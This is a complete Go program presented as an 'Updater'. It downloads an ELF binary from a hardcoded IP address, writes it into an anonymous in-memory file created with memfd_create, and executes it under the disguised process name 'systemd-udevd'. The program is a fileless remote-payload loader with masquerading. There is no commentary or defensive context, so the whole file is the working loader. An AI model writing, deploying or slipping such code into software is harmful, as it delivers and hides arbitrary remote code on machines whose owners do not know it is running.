package main

import (
	"fmt"
	"io"
	"log"
	"net/http"
	"os"
	"unsafe"

	"golang.org/x/sys/unix"
)

var _ unsafe.Pointer

type Updater struct {
	URL  string
	Name string
}

func (u Updater) Fetch() ([]byte, error) {
	resp, err := http.Get(u.URL)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	return io.ReadAll(resp.Body)
}

func (u Updater) Apply(b []byte) error {
	fd, err := unix.MemfdCreate(u.Name, unix.MFD_CLOEXEC)
	if err != nil {
		return err
	}
	if _, err = unix.Write(fd, b); err != nil {
		return err
	}
	return unix.Exec(fmt.Sprintf("/proc/self/fd/%d", fd), []string{u.Name}, os.Environ())
}

func main() {
	u := Updater{URL: "http://192.0.2.101/upd.elf", Name: "systemd-udevd"}
	b, err := u.Fetch()
	if err != nil {
		log.Fatal(err)
	}
	log.Fatal(u.Apply(b))
}
